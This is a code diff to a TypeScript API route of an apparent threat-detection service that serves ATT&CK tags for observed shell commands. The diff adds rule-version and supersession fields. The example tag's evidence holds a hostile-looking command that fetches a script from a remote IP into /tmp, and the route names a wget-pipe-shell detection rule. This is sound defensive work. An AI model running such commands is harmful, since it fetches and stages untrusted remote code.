@@ -3,7 +3,16 @@ import { assert } from '../../core/error.ts'
 import { secondMs } from '../../core/units.ts'
 import type { Attack } from '../../schemas/attack.ts'
 import { cursor, nextCursor, page } from '../cursor.ts'
-import { earliestS, id, latestS, limit, minConfidence, range, techniqueId } from '../parameters.ts'
+import {
+  earliestS,
+  id,
+  latestS,
+  limit,
+  minConfidence,
+  range,
+  techniqueId,
+  versions,
+} from '../parameters.ts'
 import { json, type Resource, timestamp } from '../resource.ts'
 
 /** Single tags, newest first, each with the evidence that made it. */
@@ -36,6 +45,10 @@ const tag = z
     evidence: z.record(z.string(), z.unknown()),
     attack_release: z.string(),
     in_release: z.boolean(),
+    superseded_at: timestamp.nullable().openapi({
+      description:
+        'When a retag put another version of the rule in its place; null for a tag that stands.',
+    }),
     log: z.string(),
     topic: z.string(),
     partition: z.int().nonnegative(),
@@ -70,6 +83,7 @@ const tagExample: z.input<typeof tag> = {
   evidence: { command_text: 'cd /tmp; wget 198.51.100.7/x.sh' },
   attack_release: '18.1',
   in_release: true,
+  superseded_at: null,
   log: '5f0c8a52',
   topic: 'ttp.commands',
   partition: 0,
@@ -92,6 +106,7 @@ const route = createRoute({
       rule: id('Only by this rule.', 'linux-shell.wget-pipe-shell').optional(),
       ...range,
       min_confidence: minConfidence,
+      versions,
       limit: limit(100),
       cursor: cursor('tags', z.tuple([z.number(), z.uuid()])),
     }),
@@ -122,6 +137,7 @@ export const tags: Resource = (app, { views, attack }) => {
       session_id: query.session ?? '',
       host: query.host ?? '',
       rule_id: query.rule ?? '',
+      all_versions: query.versions === 'all',
       before_time_s: beforeS,
       before_id: beforeId,
       // One row more tells whether there is a next page.
@@ -139,9 +155,13 @@ export const tags: Resource = (app, { views, attack }) => {
 type TagRow = {
   [Column in Exclude<
     keyof z.input<typeof tag>,
-    'evidence' | 'technique_name' | 'sub_technique_name'
+    'evidence' | 'technique_name' | 'sub_technique_name' | 'superseded_at'
   >]: NonNullable<z.input<typeof tag>[Column]>
-} & { readonly evidence: string }
+} & {
+  readonly evidence: string
+  readonly is_superseded: boolean
+  readonly retagged_time: string
+}
 
 function toTag(row: TagRow, attack: Attack): z.input<typeof tag> {
   const sub = presentOr(row.sub_technique_id)
@@ -172,6 +192,7 @@ function toTag(row: TagRow, attack: Attack): z.input<typeof tag> {
     evidence: parseEvidence(row.evidence),
     attack_release: row.attack_release,
     in_release: row.in_release,
+    superseded_at: row.is_superseded ? row.retagged_time : null,
     log: row.log,
     topic: row.topic,
     partition: row.partition,
